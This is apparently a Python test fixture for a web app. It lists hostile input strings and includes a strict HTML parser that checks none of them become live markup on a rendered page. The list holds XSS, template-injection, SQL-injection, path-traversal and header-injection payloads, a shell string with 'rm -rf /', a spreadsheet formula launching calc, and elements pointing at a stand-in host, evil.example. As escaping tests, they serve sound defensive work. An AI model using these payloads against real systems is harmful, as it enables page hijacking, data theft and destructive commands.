"""Texts that somebody could write to make a page do, show or lose something. Each is a text, and must stay one.

Whatever of them became an element would be a `hostile-…` one, or carry `data-hostile`: `HostileReader` lets none pass.
"""

from __future__ import annotations

from tests.server.web.reading_pages import Reader

HOSTILE_TEXTS: dict[str, str] = {
    # markup
    "script": "<script src=/static/live.js data-hostile=1></script><script>alert(1)</script>",
    "script in pieces": "<scr<script>ipt data-hostile>alert(1)</scr</script>ipt>",
    "image": "<img src=x onerror=alert(1) data-hostile>",
    "image, odd spelling": "<IMG\tSRC='x'/ONERROR=alert(1)//DATA-HOSTILE>",
    "svg": "<svg/onload=alert(1) data-hostile><hostile-svg/></svg>",
    "svg with a foreign object": "<svg><foreignObject><body onload=alert(1) data-hostile></foreignObject></svg>",
    "math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 data-hostile&gt;">',
    "iframe": "<iframe srcdoc='<p data-hostile>' src=//evil.example></iframe>",
    "form": '<form action=//evil.example data-hostile><button formaction="javascript:alert(1)">Go</button></form>',
    "base and meta": '<base href=//evil.example data-hostile><meta http-equiv=refresh content="0;url=//evil.example">',
    "style": "<style data-hostile>*{display:none}</style><link rel=stylesheet href=//evil.example/a.css>",
    "template element": "<template><hostile-template></hostile-template></template><slot name=x data-hostile>",
    "details": "<details open ontoggle=alert(1) data-hostile>",
    "htmx": '<div hx-get="//evil.example" hx-trigger=load hx-on::load="alert(1)" data-hostile></div>',
    # the end of what it stands in
    "closes everything": "</p></div></main></body></html><hostile-after>after the page",
    "closes a text area": "</textarea></title></style></script></noscript></xmp><hostile-area>",
    "comment left open": "<!-- <hostile-comment> from here on nothing",
    "comment closed": "--><hostile-comment>--!><!-->",
    "CDATA": "<![CDATA[<hostile-cdata>]]><hostile-cdata>",
    "processing instruction": "<?php echo 1 ?><?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/hostname'>]>",
    "tag left open": "<hostile-open data-hostile='",
    # attributes
    "double quotes": '" autofocus onfocus=alert(1) data-hostile x="',
    "single quotes": "' autofocus onfocus=alert(1) data-hostile x='",
    "no quotes": "x onmouseover=alert(1) data-hostile `",
    "back ticks": "``onmouseover=alert(1) data-hostile``",
    # addresses
    "javascript address": "javascript:alert(document.cookie)//data-hostile",
    "javascript, hidden": "java\u00adscript&colon;alert(1)",
    "data address": "data:text/html,<hostile-data>",
    "address with markup": "https://evil.example/?a=1&b=<hostile-link>&quot;",
    "network path": "//evil.example/\\evil.example",
    # languages of templates, servers, shells, sheets and databases
    "jinja": "{{7*7}}{{config}}{% raw %}{%include'/etc/hostname'%}{# hostile #}",
    "jinja ends": "{% endraw %}{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "other templates": "${7*7}#{7*7}<%= 7*7 %>[[7*7]]{{{7*7}}}@(7*7)",
    "percent": "%s %d %(name)s %n %% %(entries)d",
    "braces": "{0} {name} {0.__class__} {{}}",
    "server side include": '<!--#exec cmd="/bin/ls" --><!--#include virtual="/etc/hostname"-->',
    "sql": '\'; DROP TABLE entries; -- " OR "1"="1',
    "formula": "=cmd|' /C calc'!A0 +1 -1 @SUM(1)",
    "shell": "$(touch hostile) `id` ; rm -rf / | cat && true",
    "path": "../../../../etc/hostname ..\\..\\windows %2e%2e%2f",
    "header": "x\r\nSet-Cookie: hostile=1\r\n\r\n<hostile-header>",
    # entities
    "entities": "&lt;hostile-entity&gt; &amp;lt; &#60;hostile-entity&#62; &#x3c;b&#x3e; &NewLine; &Tab;",
    "entities without end": "&lt &copy &ampamp &#60 &#x41 &notit;",
    # letters that hide or turn
    "right to left": "\u05e9\u05dc\u05d5\u05dd (hello) 123 \u0645\u0631\u062d\u0628\u0627 <b>",
    "override": "\u202egnp.elif\u202c \u2066left\u2069 \u2067right end open",
    "override left open": "\u202e\u202e\u202eturned and never turned back",
    "zero width": "pay\u200bpal\u200c\u200d\u2060\ufeff <\u200bscript>",
    "marks": "Z" + "\u0310\u0311\u0312\u0313\u0314" * 12 + "algo",
    "full width": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "beyond": "\U0001f9d1\u200d\U0001f91d\u200d\U0001f9d1 \U0001f3f3\ufe0f\u200d\U0001f308 \U000e0041\U0001d573",
    "unassigned": "\ufdd0\uffff\U0010ffff\ue000",
    "spaces": "\u2028line\u2029paragraph\u00a0hard\u3000wide\u180emark",
    "ansi": "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J",
    "controls": "bell\x07 back\x08 tab\t form\x0c delete\x7f c1\x9b31m",
    # what looks like nothing
    "null": "null",
    "None": "None undefined NaN false 0 -0 [] {} ''",
    "long": "long " * 780,
    "one long word": "w" * 3_900,
    "many lines": "line\n" * 300,
    "deep": "<hostile-deep>" * 200,
}
"""By what they try."""

LEFT_AS_IT_IS = 160
"""How many letters of a long text a page must show; it may cut the rest, with a sign."""


class HostileReader(Reader):
    """Reads a page as strictly as `Reader`, and lets nothing through that came of a text of the list."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert not tag.startswith("hostile"), tag
        assert not any("hostile" in name for name, _ in attrs), attrs
        super().handle_starttag(tag, attrs)

    def feed(self, data: str) -> None:
        # What is left open swallows the rest of a page in a browser, where this parser goes on reading.
        for opening in ("<!--", "<![", "<?"):
            assert opening not in data, opening
        super().feed(data)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        assert decl == "doctype html", decl

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"a processing instruction: {data}")

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(f"a declaration: {data}")

    @property
    def letters(self) -> str:
        """All that a person reads, and what stands in fields, without any space."""
        fields = [
            value or "" for _, attributes in self.elements for name, value in attributes.items() if name == "value"
        ]
        return squeezed("".join(self.words) + "\0" + "\0".join(fields))


def squeezed(text: str) -> str:
    """A text without its spaces, of which a page may make others."""
    return "".join(text.split())


def shown(text: str) -> str:
    """What must be on a page of a text that was taken as it is."""
    return squeezed(text)[:LEFT_AS_IT_IS]
